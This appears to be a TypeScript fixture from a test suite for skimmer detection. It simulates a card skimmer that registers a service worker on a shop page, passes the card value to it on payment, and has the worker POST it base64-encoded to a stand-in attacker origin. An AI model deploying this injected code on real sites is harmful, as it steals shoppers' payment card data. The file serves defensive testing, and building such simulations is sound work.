import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'service-worker',
  why: 'A service worker takes the values by message and sends them: what it sends belongs to no page.',
  covers: ['injection: service worker', 'sending: fetch'],
  base: 'direct',
  install: (site) => {
    site.serve(
      'shop/sw.js',
      js`self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(clients.claim()); });
self.addEventListener('message', function (e) { e.waitUntil(fetch('${site.origins.evil}/push', { method: 'POST', mode: 'no-cors', body: btoa(e.data.v) })); });`,
    );
    site.append(js`navigator.serviceWorker.register('/sw.js');
${onPay(js`
    var text = card();
    navigator.serviceWorker.ready.then(function (r) { r.active.postMessage({ v: text }); });`)}`);
  },
  proof: holds((arrived) => bodies(arrived).map(base64)),
});
